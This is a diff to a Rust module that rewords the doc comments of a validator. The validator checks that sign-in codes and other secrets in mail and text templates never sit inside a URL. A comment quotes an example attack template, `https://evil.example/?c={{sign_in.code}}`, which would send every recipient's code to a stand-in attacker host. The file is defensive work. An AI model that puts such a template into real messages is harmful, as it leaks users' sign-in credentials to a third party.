@@ -1,11 +1,11 @@
-//! Secrets stand alone: what signs somebody in, or proves something, is never a part of an address
-//! that leads elsewhere.
+//! Checks that secrets stand alone: a link or code that signs somebody in, or proves something, is never part
+//! of an address that leads elsewhere.
 //!
-//! Whoever writes `https://evil.example/?c={{sign_in.code}}` would be told the code by everybody who
-//! opens it. A link in Markdown is only one way to write that: mail programs and telephones make links of
-//! whatever looks like an address in plain text, each by rules of its own. So what comes out is looked at, not
-//! what was written: in every part of a message, a secret has white space or punctuation around it,
-//! and lies within no brackets or quotation marks that begin with an address.
+//! A template with `https://evil.example/?c={{sign_in.code}}` would send its author the code of everybody who
+//! opens the link. A link in Markdown is only one way to write that. Mail programs and telephones turn
+//! everything in a plain text that looks like an address into a link, each by its own rules. So these checks
+//! look at the resulting message and not at its source: in every part of a message, a secret has white space or
+//! punctuation around it, and is not inside brackets or quotation marks that begin with an address.
 
 use super::{
     filling::Marked,
@@ -13,14 +13,14 @@ use super::{
     markup::{self, Document},
 };
 
-/// The first secret of a text message or a subject that does not stand alone, by its mark. Secrets are
-/// hidden behind their marks.
+/// The mark of the first secret in a text message or a subject that does not stand alone. In `veiled`, each
+/// secret is replaced by its mark.
 pub(super) fn exposed_in_text(veiled: &Marked) -> Option<char> {
     exposed(&veiled.plain())
 }
 
-/// The same of a mail's body, in both of its parts. What cannot be read at all is told by
-/// [`markup::read`].
+/// The same for a mail's body, in both of its parts. A body that cannot be read passes here, because
+/// [`markup::read`] reports it.
 pub(super) fn exposed_in_body(veiled: &Marked) -> Option<char> {
     let document = markup::read(veiled).ok()?;
     exposed_in_document(&document)
@@ -43,7 +43,7 @@ fn stands_alone(text: &str, at: usize, mark: char) -> bool {
     word_before.chars().all(opens) && word_after.chars().all(closes) && !is_enclosed(before)
 }
 
-/// White space at which every program ends an address. A no-break space is a letter to some.
+/// White space at which every program ends an address. Some programs treat a no-break space as a letter.
 const fn is_space(c: char) -> bool {
     matches!(c, ' ' | '\t' | '\n')
 }
@@ -53,7 +53,7 @@ const fn opens(c: char) -> bool {
     matches!(c, '(' | '[' | '<' | '"' | '\'' | '“' | '‘' | '„' | '‚' | '«' | '‹' | '¿' | '¡' | '*' | '_')
 }
 
-/// Punctuation that may stand right after one. It ends where a space follows: `.evil.example` does not.
+/// Punctuation that may stand right after a secret. Only white space may follow it: `.evil.example` is refused.
 const fn closes(c: char) -> bool {
     matches!(
         c,
@@ -82,18 +82,19 @@ const fn closes(c: char) -> bool {
     )
 }
 
-/// Whether brackets or quotation marks are open that began with an address: within them an address may have
-/// spaces and line breaks (RFC 3986, appendix C), and some programs read it so.
+/// Whether a bracket or quotation mark that begins with an address is still open. Inside these, an address may
+/// contain spaces and line breaks (RFC 3986, appendix C), and some programs read it that way.
 fn is_enclosed(before: &str) -> bool {
     let unclosed = before.rsplit('>').next().and_then(|rest| rest.split_once('<'));
-    // There an address may begin with `URL:` and go on after any sign, so any of them will do.
+    // In angle brackets, an address may begin with `URL:` and go on after any sign, so one of these signs is
+    // enough.
     let in_brackets = unclosed.is_some_and(|(_, rest)| rest.contains(['.', ':', '@', '/', '．', '。']));
     let line = before.rsplit('\n').next().unwrap_or_default();
     let quoted = line.rsplit_once('"').and_then(|(_, rest)| rest.split(is_space).next());
     in_brackets || quoted.is_some_and(is_like_an_address)
 }
 
-/// Whether something could be taken for an address, or its beginning: `evil.example`, `mailto:x`.
+/// Whether a word could be read as an address or as its beginning: `evil.example`, `mailto:x`.
 fn is_like_an_address(word: &str) -> bool {
     let mut letters = word.chars().peekable();
     while let Some(letter) = letters.next() {
